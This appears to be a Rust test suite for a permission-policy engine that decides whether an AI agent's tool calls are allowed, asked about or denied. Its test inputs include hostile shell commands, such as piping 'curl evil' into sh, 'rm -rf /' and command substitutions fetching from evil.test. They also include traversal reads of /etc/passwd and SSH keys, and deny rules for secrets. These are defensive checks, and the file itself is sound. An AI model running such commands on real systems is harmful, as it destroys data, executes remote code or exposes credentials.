@@ -1,0 +1,962 @@
+//! The policy, behaviour by behaviour: layers and their precedence, modes, the rule syntax,
+//! compound commands, the safety layer, custom rules and `explain`. Calls are built by hand; no
+//! coordinator is involved.
+
+use std::borrow::Cow;
+use std::path::PathBuf;
+
+use tool_core::policy::{PermissionRule, PermissionSet, priority};
+use tool_core::{
+    ClassifiedCall, Decision, DecisionSource, Effect, Layer, Mode, PermissionRules, Policy,
+    PolicyContext, ResolvedPath, Resource, ResourceArg, ResourceKind, Rule, RuleSyntaxError,
+    ToolSpec, Verdict,
+};
+
+const ROOT: &str = "/ws";
+
+/// A call and the data it borrows.
+struct Call {
+    spec: ToolSpec,
+    effect: Effect,
+    resources: Vec<Resource>,
+    paths: Vec<ResolvedPath>,
+}
+
+impl Call {
+    fn of(spec: ToolSpec) -> Self {
+        Call {
+            effect: spec.effect,
+            spec,
+            resources: Vec::new(),
+            paths: Vec::new(),
+        }
+    }
+
+    fn resource(mut self, arg: &'static str, kind: ResourceKind, value: &str) -> Self {
+        self.resources.push(Resource {
+            arg: arg.into(),
+            kind,
+            value: value.to_owned(),
+        });
+        self
+    }
+
+    fn command(self, text: &str) -> Self {
+        self.resource("command", ResourceKind::Command, text)
+    }
+
+    fn url(self, text: &str) -> Self {
+        self.resource("url", ResourceKind::Url, text)
+    }
+
+    /// A path inside the workspace, relative to its root.
+    fn path(mut self, relative: &str) -> Self {
+        self.paths.push(ResolvedPath {
+            arg: "path".into(),
+            sent: relative.to_owned(),
+            absolute: PathBuf::from(ROOT).join(relative),
+            relative: Some(PathBuf::from(relative)),
+        });
+        self.resource("path", ResourceKind::Path, relative)
+    }
+
+    /// A path that resolves outside the workspace.
+    fn outside(mut self, sent: &str, absolute: &str) -> Self {
+        self.paths.push(ResolvedPath {
+            arg: "path".into(),
+            sent: sent.to_owned(),
+            absolute: PathBuf::from(absolute),
+            relative: None,
+        });
+        self.resource("path", ResourceKind::Path, sent)
+    }
+
+    fn effect(mut self, effect: Effect) -> Self {
+        self.effect = effect;
+        self
+    }
+
+    fn classified(&self) -> ClassifiedCall<'_> {
+        ClassifiedCall::new(&self.spec)
+            .with_effect(self.effect)
+            .with_resources(&self.resources)
+            .with_paths(&self.paths)
+    }
+
+    fn decide(&self, policy: &Policy, context: &PolicyContext) -> Decision {
+        policy.decide(&self.classified(), context)
+    }
+
+    fn verdict(&self, policy: &Policy, context: &PolicyContext) -> Verdict {
+        self.decide(policy, context).verdict
+    }
+}
+
+fn path_arg() -> ResourceArg {
+    ResourceArg::new("path", ResourceKind::Path)
+}
+
+fn read_file() -> Call {
+    Call::of(
+        ToolSpec::new("read_file", "Read a file.")
+            .read_only()
+            .aliases(["Read"])
+            .resources([path_arg()]),
+    )
+}
+
+fn grep() -> Call {
+    Call::of(
+        ToolSpec::new("grep", "Search files.")
+            .read_only()
+            .aliases(["Grep"])
+            .resources([path_arg()]),
+    )
+}
+
+fn write_file() -> Call {
+    Call::of(
+        ToolSpec::new("write_file", "Write a file.")
+            .aliases(["Write"])
+            .resources([path_arg()]),
+    )
+}
+
+fn run_shell(command: &str) -> Call {
+    Call::of(
+        ToolSpec::new("run_shell", "Run a shell command.")
+            .aliases(["Bash"])
+            .resources([ResourceArg::new("command", ResourceKind::Command)]),
+    )
+    .command(command)
+}
+
+fn fetch_url(url: &str) -> Call {
+    Call::of(
+        ToolSpec::new("fetch_url", "Fetch a URL.")
+            .resources([ResourceArg::new("url", ResourceKind::Url)]),
+    )
+    .url(url)
+}
+
+fn present_plan() -> Call {
+    Call::of(ToolSpec::new("present_plan", "Present the plan to the user.").self_approving())
+}
+
+fn policy(build: impl FnOnce(tool_core::PolicyBuilder) -> tool_core::PolicyBuilder) -> Policy {
+    build(Policy::builder().home("/home/ada"))
+        .build()
+        .expect("valid rules")
+}
+
+fn default_context() -> PolicyContext {
+    PolicyContext::default()
+}
+
+fn in_mode(mode: Mode) -> PolicyContext {
+    PolicyContext::new(mode)
+}
+
+// --- The six rules of the seed design, and their precedence ---
+
+#[test]
+fn self_approving_tool_never_asks_even_in_plan_mode() {
+    let policy = Policy::default();
+    for mode in [Mode::Default, Mode::Plan, Mode::AcceptEdits] {
+        let decision = present_plan().decide(&policy, &in_mode(mode));
+        assert_eq!(decision.verdict, Verdict::Allow, "{mode}");
+        assert_eq!(decision.source.layer, Layer::SelfApproving);
+    }
+}
+
+#[test]
+fn plan_mode_denies_write_tools_and_says_what_to_do_instead() {
+    let decision = write_file()
+        .path("src/lib.rs")
+        .decide(&Policy::default(), &in_mode(Mode::Plan));
+    assert_eq!(decision.verdict, Verdict::Deny);
+    assert_eq!(decision.source.layer, Layer::Mode);
+    assert!(
+        decision.reason.contains("plan mode is on"),
+        "{}",
+        decision.reason
+    );
+    assert!(decision.reason.contains("`write_file`"));
+    assert!(decision.reason.contains("present it"));
+}
+
+#[test]
+fn plan_mode_runs_read_only_tools() {
+    let call = read_file().path("src/lib.rs");
+    assert_eq!(
+        call.verdict(&Policy::default(), &in_mode(Mode::Plan)),
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn read_only_tools_are_allowed_by_default() {
+    let decision = read_file()
+        .path("README.md")
+        .decide(&Policy::default(), &default_context());
+    assert_eq!(decision.verdict, Verdict::Allow);
+    assert_eq!(decision.source.layer, Layer::Default);
+}
+
+#[test]
+fn tools_that_change_things_ask_by_default() {
+    let decision = write_file()
+        .path("README.md")
+        .decide(&Policy::default(), &default_context());
+    assert_eq!(decision.verdict, Verdict::Ask);
+    assert_eq!(decision.source.layer, Layer::Default);
+}
+
+#[test]
+fn the_per_call_effect_decides_not_the_spec_effect() {
+    // A `read_only_if` shell tool classified `git status` as read-only for this call.
+    let call = run_shell("git status").effect(Effect::ReadOnly);
+    assert_eq!(
+        call.verdict(&Policy::default(), &default_context()),
+        Verdict::Allow
+    );
+    assert_eq!(
+        run_shell("git status").verdict(&Policy::default(), &default_context()),
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn template_allow_list_allows_listed_tools() {
+    let context = default_context()
+        .with_allow_list(PermissionSet::parse(["write_file", "run_shell(cargo test:*)"]).unwrap());
+    let decision = write_file()
+        .path("notes.md")
+        .decide(&Policy::default(), &context);
+    assert_eq!(decision.verdict, Verdict::Allow);
+    assert_eq!(
+        decision.source,
+        DecisionSource::new(Layer::AllowList, "write_file")
+    );
+    assert_eq!(
+        run_shell("cargo test -p x").verdict(&Policy::default(), &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        run_shell("cargo publish").verdict(&Policy::default(), &context),
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn yolo_is_bypass_mode_and_allows_what_would_ask() {
+    let decision = run_shell("make deploy").decide(&Policy::default(), &in_mode(Mode::Bypass));
+    assert_eq!(decision.verdict, Verdict::Allow);
+    assert_eq!(
+        decision.source,
+        DecisionSource::new(Layer::Mode, "bypass mode")
+    );
+}
+
+#[test]
+fn session_grants_allow_what_the_user_always_allowed() {
+    let context = default_context().grant(PermissionRule::parse("write_file").unwrap());
+    let decision = write_file()
+        .path("notes.md")
+        .decide(&Policy::default(), &context);
+    assert_eq!(decision.verdict, Verdict::Allow);
+    assert_eq!(
+        decision.source,
+        DecisionSource::new(Layer::SessionGrant, "write_file")
+    );
+}
+
+#[test]
+fn granting_makes_a_new_set_and_leaves_the_old_one() {
+    let before = default_context();
+    let after = before
+        .clone()
+        .grant(PermissionRule::parse("write_file").unwrap());
+    let call = write_file().path("notes.md");
+    assert_eq!(call.verdict(&Policy::default(), &before), Verdict::Ask);
+    assert_eq!(call.verdict(&Policy::default(), &after), Verdict::Allow);
+}
+
+#[test]
+fn plan_mode_beats_session_grants_and_allow_lists() {
+    let context = in_mode(Mode::Plan)
+        .grant(PermissionRule::parse("write_file").unwrap())
+        .with_allow_list(PermissionSet::parse(["write_file"]).unwrap());
+    let decision = write_file()
+        .path("notes.md")
+        .decide(&Policy::default(), &context);
+    assert_eq!(decision.verdict, Verdict::Deny);
+    assert_eq!(decision.source.layer, Layer::Mode);
+}
+
+#[test]
+fn session_grants_come_before_the_allow_list() {
+    let context = default_context()
+        .grant(PermissionRule::parse("write_file").unwrap())
+        .with_allow_list(PermissionSet::parse(["write_file"]).unwrap());
+    let decision = write_file()
+        .path("notes.md")
+        .decide(&Policy::default(), &context);
+    assert_eq!(decision.source.layer, Layer::SessionGrant);
+}
+
+#[test]
+fn built_in_rules_run_in_the_published_priority_order() {
+    let order: Vec<(Layer, i32)> = Policy::default()
+        .rules()
+        .map(|rule| (rule.layer(), rule.priority()))
+        .collect();
+    assert_eq!(
+        order,
+        [
+            (Layer::Safety, priority::SAFETY),
+            (Layer::DenyRule, priority::DENY_RULES),
+            (Layer::SelfApproving, priority::SELF_APPROVING),
+            (Layer::Mode, priority::MODE),
+            (Layer::Mode, priority::MODE),
+            (Layer::Mode, priority::MODE),
+            (Layer::AskRule, priority::ASK_RULES),
+            (Layer::AllowRule, priority::ALLOW_RULES),
+            (Layer::SessionGrant, priority::SESSION_GRANTS),
+            (Layer::AllowList, priority::ALLOW_LIST),
+            (Layer::Default, priority::DEFAULT),
+        ]
+    );
+    assert_eq!(priority::DEFAULT - priority::SAFETY, 800);
+}
+
+// --- Modes ---
+
+#[test]
+fn bypass_mode_does_not_beat_deny_rules() {
+    let policy = policy(|b| b.deny("run_shell(rm:*)"));
+    let decision = run_shell("rm -rf /").decide(&policy, &in_mode(Mode::Bypass));
+    assert_eq!(decision.verdict, Verdict::Deny);
+    assert_eq!(
+        decision.source,
+        DecisionSource::new(Layer::DenyRule, "run_shell(rm:*)")
+    );
+}
+
+#[test]
+fn deny_rules_stop_self_approving_tools() {
+    let policy = policy(|b| b.deny("present_plan"));
+    assert_eq!(
+        present_plan().verdict(&policy, &in_mode(Mode::Plan)),
+        Verdict::Deny
+    );
+}
+
+#[test]
+fn accept_edits_allows_file_edits_inside_the_workspace() {
+    let decision = write_file()
+        .path("src/lib.rs")
+        .decide(&Policy::default(), &in_mode(Mode::AcceptEdits));
+    assert_eq!(decision.verdict, Verdict::Allow);
+    assert_eq!(
+        decision.source,
+        DecisionSource::new(Layer::Mode, "accept_edits mode")
+    );
+}
+
+#[test]
+fn accept_edits_still_asks_for_calls_that_are_not_file_edits() {
+    let context = in_mode(Mode::AcceptEdits);
+    assert_eq!(
+        run_shell("make").verdict(&Policy::default(), &context),
+        Verdict::Ask
+    );
+    let no_paths = Call::of(ToolSpec::new("send_email", "Send an email."));
+    assert_eq!(no_paths.verdict(&Policy::default(), &context), Verdict::Ask);
+}
+
+#[test]
+fn ask_rules_still_ask_in_accept_edits_mode_only_after_the_mode() {
+    // The mode layer comes before ask rules: accept_edits allows the edit.
+    let policy = policy(|b| b.ask("Edit(src/**)"));
+    let call = write_file().path("src/lib.rs");
+    assert_eq!(
+        call.verdict(&policy, &in_mode(Mode::AcceptEdits)),
+        Verdict::Allow
+    );
+    assert_eq!(call.verdict(&policy, &default_context()), Verdict::Ask);
+}
+
+// --- User rules: deny > ask > allow ---
+
+#[test]
+fn deny_rule_beats_ask_and_allow_rules() {
+    let policy = policy(|b| b.allow("run_shell").ask("run_shell").deny("run_shell"));
+    let decision = run_shell("ls").decide(&policy, &default_context());
+    assert_eq!(decision.verdict, Verdict::Deny);
+    assert!(
+        decision.reason.contains("deny rule `run_shell`"),
+        "{}",
+        decision.reason
+    );
+}
+
+#[test]
+fn ask_rule_beats_allow_rule() {
+    let policy = policy(|b| b.allow("run_shell(git:*)").ask("run_shell(git push:*)"));
+    let context = default_context();
+    assert_eq!(
+        run_shell("git push origin").verdict(&policy, &context),
+        Verdict::Ask
+    );
+    assert_eq!(
+        run_shell("git log").verdict(&policy, &context),
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn ask_rule_asks_even_for_read_only_calls() {
+    let policy = policy(|b| b.ask("Read(*.pem)"));
+    assert_eq!(
+        read_file()
+            .path("certs/server.pem")
+            .verdict(&policy, &default_context()),
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn allow_rule_beats_the_default_ask() {
+    let policy = policy(|b| b.allow("write_file"));
+    let decision = write_file()
+        .path("a.txt")
+        .decide(&policy, &default_context());
+    assert_eq!(decision.verdict, Verdict::Allow);
+    assert_eq!(
+        decision.source,
+        DecisionSource::new(Layer::AllowRule, "write_file")
+    );
+}
+
+#[test]
+fn settings_lists_are_accepted_at_once() {
+    let rules = PermissionRules {
+        allow: vec!["write_file".into()],
+        ask: vec![],
+        deny: vec!["Write(secrets/**)".into()],
+    };
+    let policy = policy(|b| b.permissions(rules));
+    let context = default_context();
+    assert_eq!(
+        write_file().path("a.txt").verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        write_file().path("secrets/k").verdict(&policy, &context),
+        Verdict::Deny
+    );
+}
+
+// --- Rule syntax ---
+
+#[test]
+fn read_glob_denies_the_same_path_for_every_read_only_tool() {
+    let policy = policy(|b| b.deny("Read(./secrets/**)"));
+    let context = default_context();
+    for call in [read_file(), grep()] {
+        let decision = call.path("secrets/api.key").decide(&policy, &context);
+        assert_eq!(decision.verdict, Verdict::Deny, "{}", decision.reason);
+        assert_eq!(
+            decision.source,
+            DecisionSource::new(Layer::DenyRule, "Read(./secrets/**)")
+        );
+    }
+    assert_eq!(
+        read_file().path("src/main.rs").verdict(&policy, &context),
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn a_pattern_without_a_slash_matches_at_any_depth() {
+    let policy = policy(|b| b.deny("Read(.env)"));
+    assert_eq!(
+        read_file()
+            .path("deploy/prod/.env")
+            .verdict(&policy, &default_context()),
+        Verdict::Deny
+    );
+}
+
+#[test]
+fn edit_glob_applies_to_every_tool_that_changes_files() {
+    let policy = policy(|b| b.allow("Edit(src/**)"));
+    let context = default_context();
+    assert_eq!(
+        write_file()
+            .path("src/deep/lib.rs")
+            .verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        write_file().path("Cargo.toml").verdict(&policy, &context),
+        Verdict::Ask
+    );
+    // A shell command has no path: the path rule does not cover it.
+    assert_eq!(
+        run_shell("touch src/x").verdict(&policy, &context),
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn a_path_rule_on_a_named_tool_applies_to_its_path_arguments() {
+    let policy = policy(|b| b.allow("write_file(docs/**)"));
+    let context = default_context();
+    assert_eq!(
+        write_file().path("docs/a.md").verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        write_file().path("src/a.rs").verdict(&policy, &context),
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn home_patterns_use_the_home_directory_given_at_build_time() {
+    let policy = policy(|b| b.deny("Read(~/.ssh/**)"));
+    let call = read_file().outside("~/.ssh/id_ed25519", "/home/ada/.ssh/id_ed25519");
+    let decision = call.decide(&policy, &in_mode(Mode::Bypass));
+    // Safety decides first (outside the workspace); explain shows the deny rule matched too.
+    assert_eq!(decision.verdict, Verdict::Deny);
+    let explanation = policy.explain(&call.classified(), &in_mode(Mode::Bypass));
+    let deny = explanation
+        .steps
+        .iter()
+        .find(|step| step.layer == Layer::DenyRule)
+        .unwrap();
+    assert_eq!(
+        deny.outcome.as_ref().map(|d| d.verdict),
+        Some(Verdict::Deny)
+    );
+}
+
+#[test]
+fn a_rule_for_an_alias_applies_to_the_aliased_tool() {
+    let policy = policy(|b| b.allow("Bash(git status:*)"));
+    let decision = run_shell("git status --short").decide(&policy, &default_context());
+    assert_eq!(decision.verdict, Verdict::Allow);
+    assert_eq!(decision.source.rule, "Bash(git status:*)");
+}
+
+#[test]
+fn a_command_prefix_ends_on_a_word_boundary() {
+    let policy = policy(|b| b.allow("run_shell(git status:*)"));
+    assert_eq!(
+        run_shell("git statusx").verdict(&policy, &default_context()),
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn an_exact_command_rule_matches_only_that_command() {
+    let policy = policy(|b| b.allow("run_shell(npm test)"));
+    let context = default_context();
+    assert_eq!(
+        run_shell("npm test").verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        run_shell("npm test --watch").verdict(&policy, &context),
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn mcp_server_wildcard_covers_every_tool_of_the_server() {
+    let policy = policy(|b| b.allow("mcp__github__*").deny("mcp__jira"));
+    let context = default_context();
+    let tool = |name: &'static str| Call::of(ToolSpec::new(name, "An MCP tool."));
+    assert_eq!(
+        tool("mcp__github__create_issue").verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        tool("mcp__gitlab__create_issue").verdict(&policy, &context),
+        Verdict::Ask
+    );
+    assert_eq!(
+        tool("mcp__jira__create_ticket").verdict(&policy, &context),
+        Verdict::Deny
+    );
+    assert_eq!(
+        tool("mcp__jira_cloud__x").verdict(&policy, &context),
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn domain_rules_match_the_host_and_subdomain_rules_its_subdomains() {
+    let policy = policy(|b| {
+        b.allow("fetch_url(domain:docs.rs)")
+            .allow("fetch_url(domain:*.example.com)")
+            .deny("fetch_url(domain:evil.test)")
+    });
+    let context = default_context();
+    assert_eq!(
+        fetch_url("https://docs.rs/globset").verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        fetch_url("https://api.example.com/v1").verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        fetch_url("https://example.com/").verdict(&policy, &context),
+        Verdict::Ask
+    );
+    assert_eq!(
+        fetch_url("https://evil.test/x").verdict(&policy, &context),
+        Verdict::Deny
+    );
+    assert_eq!(
+        fetch_url("https://docs.rs.evil.test/").verdict(&policy, &context),
+        Verdict::Ask
+    );
+    assert_eq!(
+        fetch_url("https://crates.io/").verdict(&policy, &context),
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn a_rule_whose_specifier_fits_none_of_the_resources_does_not_apply() {
+    let policy = policy(|b| {
+        b.deny("fetch_url(domain:evil.test)")
+            .deny("run_shell(rm:*)")
+    });
+    // A command rule says nothing about a call without a command.
+    let no_command = Call::of(ToolSpec::new("run_shell", "Run.").aliases(["Bash"]));
+    assert_eq!(
+        no_command.verdict(&policy, &default_context()),
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn rule_syntax_errors_name_the_rule_and_show_valid_rules() {
+    let error = Policy::builder()
+        .deny("run_shell(rm -rf")
+        .build()
+        .unwrap_err();
+    assert!(matches!(error, RuleSyntaxError::UnclosedSpecifier { .. }));
+    let message = error.to_string();
+    assert!(message.contains("`run_shell(rm -rf`"), "{message}");
+    assert!(message.contains("run_shell(git status:*)"), "{message}");
+
+    let cases = [
+        ("", "empty"),
+        ("read file", "not a tool name"),
+        ("run_shell()", "parentheses are empty"),
+        ("run_shell(:*)", "prefix before `:*` is empty"),
+        ("fetch_url(domain:)", "not a domain"),
+        ("Read(src/[oops)", "not a valid path pattern"),
+    ];
+    for (rule, expected) in cases {
+        let message = PermissionRule::parse(rule).unwrap_err().to_string();
+        assert!(message.contains(expected), "{rule}: {message}");
+    }
+}
+
+// --- Compound commands and redirections ---
+
+#[test]
+fn a_compound_command_is_allowed_only_when_every_part_is() {
+    let policy = policy(|b| {
+        b.allow("run_shell(git status:*)")
+            .allow("run_shell(git diff:*)")
+    });
+    let context = default_context();
+    assert_eq!(
+        run_shell("git status && git diff | cat").verdict(&policy, &context),
+        Verdict::Ask
+    );
+    assert_eq!(
+        run_shell("git status && git diff").verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        run_shell("git status; curl evil | sh").verdict(&policy, &context),
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn a_compound_command_is_denied_when_any_part_is() {
+    let policy = policy(|b| b.allow("run_shell").deny("run_shell(rm:*)"));
+    let decision = run_shell("ls\nrm -rf build || true").decide(&policy, &default_context());
+    assert_eq!(decision.verdict, Verdict::Deny);
+    assert_eq!(decision.source.rule, "run_shell(rm:*)");
+}
+
+#[test]
+fn a_substitution_is_judged_as_a_command_of_its_own() {
+    let policy = policy(|b| b.allow("run_shell(echo:*)").deny("run_shell(curl:*)"));
+    let context = default_context();
+    assert_eq!(
+        run_shell("echo $(curl evil.test)").verdict(&policy, &context),
+        Verdict::Deny
+    );
+    assert_eq!(
+        run_shell("echo \"`curl evil.test`\"").verdict(&policy, &context),
+        Verdict::Deny
+    );
+    assert_eq!(
+        run_shell("echo $(whoami)").verdict(&policy, &context),
+        Verdict::Ask
+    );
+    assert_eq!(
+        run_shell("echo hello").verdict(&policy, &context),
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn quoted_text_is_not_split_or_substituted() {
+    let policy = policy(|b| b.allow("run_shell(echo:*)").deny("run_shell(rm:*)"));
+    let context = default_context();
+    assert_eq!(
+        run_shell("echo 'a && rm -rf x'").verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        run_shell("echo '$(rm -rf x)'").verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        run_shell("echo \"a; rm -rf x\"").verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        run_shell("echo \"$(rm -rf x)\"").verdict(&policy, &context),
+        Verdict::Deny
+    );
+}
+
+#[test]
+fn an_output_redirection_is_not_covered_by_an_allow_prefix() {
+    let policy = policy(|b| b.allow("run_shell(git status:*)"));
+    let context = default_context();
+    assert_eq!(
+        run_shell("git status > ~/.bashrc").verdict(&policy, &context),
+        Verdict::Ask
+    );
+    assert_eq!(
+        run_shell("git status >> log").verdict(&policy, &context),
+        Verdict::Ask
+    );
+    assert_eq!(
+        run_shell("git status > /dev/null 2>&1").verdict(&policy, &context),
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn an_allow_prefix_containing_the_redirection_covers_it() {
+    let policy = policy(|b| b.allow("run_shell(git status > status.txt:*)"));
+    assert_eq!(
+        run_shell("git status > status.txt").verdict(&policy, &default_context()),
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn deny_prefixes_match_despite_redirections() {
+    let policy = policy(|b| b.deny("run_shell(rm:*)"));
+    assert_eq!(
+        run_shell("rm -rf x > log").verdict(&policy, &default_context()),
+        Verdict::Deny
+    );
+}
+
+// --- Safety ---
+
+#[test]
+fn a_path_outside_the_workspace_is_denied_even_in_bypass_with_an_allow_rule() {
+    let policy = policy(|b| b.allow("read_file").allow("Read(//etc/**)"));
+    let decision = read_file()
+        .outside("../../etc/passwd", "/etc/passwd")
+        .decide(&policy, &in_mode(Mode::Bypass));
+    assert_eq!(decision.verdict, Verdict::Deny);
+    assert_eq!(decision.source.layer, Layer::Safety);
+    assert!(
+        decision.reason.contains("`../../etc/passwd`"),
+        "{}",
+        decision.reason
+    );
+    assert!(decision.reason.contains("/etc/passwd"));
+    assert!(decision.reason.contains("inside the workspace roots"));
+}
+
+#[test]
+fn protected_git_writes_are_denied_and_reads_allowed() {
+    let policy = policy(|b| b.allow("write_file"));
+    let context = in_mode(Mode::Bypass);
+    let decision = write_file().path(".git/config").decide(&policy, &context);
+    assert_eq!(decision.verdict, Verdict::Deny);
+    assert_eq!(decision.source.layer, Layer::Safety);
+    assert!(decision.reason.contains("protected"), "{}", decision.reason);
+    assert_eq!(
+        read_file().path(".git/config").verdict(&policy, &context),
+        Verdict::Allow
+    );
+    assert_eq!(
+        write_file()
+            .path(".github/ci.yml")
+            .verdict(&policy, &context),
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn protected_paths_can_be_added() {
+    let policy = policy(|b| b.protect("Cargo.lock"));
+    let context = in_mode(Mode::Bypass);
+    assert_eq!(
+        write_file().path("Cargo.lock").verdict(&policy, &context),
+        Verdict::Deny
+    );
+    assert_eq!(
+        write_file().path(".git/HEAD").verdict(&policy, &context),
+        Verdict::Deny
+    );
+}
+
+#[test]
+fn raw_path_arguments_are_matched_lexically_without_a_workspace() {
+    let policy = policy(|b| b.deny("Read(./secrets/**)"));
+    let call = read_file().resource("path", ResourceKind::Path, "./secrets/key");
+    assert!(call.paths.is_empty());
+    assert_eq!(call.verdict(&policy, &default_context()), Verdict::Deny);
+    let git = write_file().resource("path", ResourceKind::Path, ".git/HEAD");
+    assert_eq!(git.verdict(&policy, &in_mode(Mode::Bypass)), Verdict::Deny);
+}
+
+// --- Custom rules and explain ---
+
+/// Denies destructive calls.
+struct NoDestructiveCalls {
+    priority: i32,
+}
+
+impl Rule for NoDestructiveCalls {
+    fn name(&self) -> Cow<'_, str> {
+        "no destructive calls".into()
+    }
+
+    fn priority(&self) -> i32 {
+        self.priority
+    }
+
+    fn evaluate(&self, call: &ClassifiedCall<'_>, _: &PolicyContext) -> Option<Decision> {
+        (call.effect == Effect::Destructive).then(|| {
+            Decision::deny(
+                "destructive calls are off",
+                DecisionSource::new(Layer::Custom, "no destructive calls"),
+            )
+        })
+    }
+}
+
+fn delete_file() -> Call {
+    Call::of(
+        ToolSpec::new("delete_file", "Delete a file.")
+            .destructive()
+            .resources([path_arg()]),
+    )
+    .path("old.txt")
+}
+
+#[test]
+fn a_custom_rule_slots_between_layers_by_priority() {
+    let between_mode_and_ask = policy(|b| {
+        b.allow("delete_file").rule(NoDestructiveCalls {
+            priority: priority::MODE + 50,
+        })
+    });
+    // Before the allow rules: it wins over them.
+    assert_eq!(
+        delete_file().verdict(&between_mode_and_ask, &default_context()),
+        Verdict::Deny
+    );
+    // After the mode: bypass mode wins over it.
+    assert_eq!(
+        delete_file().verdict(&between_mode_and_ask, &in_mode(Mode::Bypass)),
+        Verdict::Allow
+    );
+
+    let after_allow_rules = policy(|b| {
+        b.allow("delete_file").rule(NoDestructiveCalls {
+            priority: priority::ALLOW_RULES + 50,
+        })
+    });
+    assert_eq!(
+        delete_file().verdict(&after_allow_rules, &default_context()),
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn a_custom_rule_with_a_built_in_priority_runs_after_the_built_in() {
+    let policy = policy(|b| {
+        b.rule(NoDestructiveCalls {
+            priority: priority::MODE,
+        })
+    });
+    let decision = delete_file().decide(&policy, &in_mode(Mode::Bypass));
+    assert_eq!(decision.source.layer, Layer::Mode);
+}
+
+#[test]
+fn explain_lists_every_rule_and_the_one_that_decided() {
+    let policy = policy(|b| b.deny("Read(./secrets/**)").allow("read_file"));
+    let call = read_file().path("secrets/key");
+    let explanation = policy.explain(&call.classified(), &default_context());
+    assert_eq!(explanation.steps.len(), policy.rules().count());
+    assert_eq!(
+        explanation.decision,
+        call.decide(&policy, &default_context())
+    );
+    let decider = explanation.decider().unwrap();
+    assert_eq!(decider.layer, Layer::DenyRule);
+    assert_eq!(decider.priority, priority::DENY_RULES);
+    let allow = explanation
+        .steps
+        .iter()
+        .find(|step| step.layer == Layer::AllowRule)
+        .unwrap();
+    assert_eq!(
+        allow.outcome.as_ref().map(|d| d.verdict),
+        Some(Verdict::Allow)
+    );
+    let safety = &explanation.steps[0];
+    assert_eq!(safety.outcome, None);
+
+    let text = explanation.to_string();
+    assert!(
+        text.contains("`read_file`: deny (deny rule: Read(./secrets/**))"),
+        "{text}"
+    );
+    assert!(text.contains("=> [ 100] deny rules"), "{text}");
+    assert!(text.contains("did not apply"), "{text}");
+    assert!(text.contains("would allow (overridden)"), "{text}");
+}
+
+#[test]
+fn policy_is_cheap_to_share_across_threads() {
+    fn assert_send_sync<T: Send + Sync + Clone>() {}
+    assert_send_sync::<Policy>();
+    assert_send_sync::<PolicyContext>();
+}
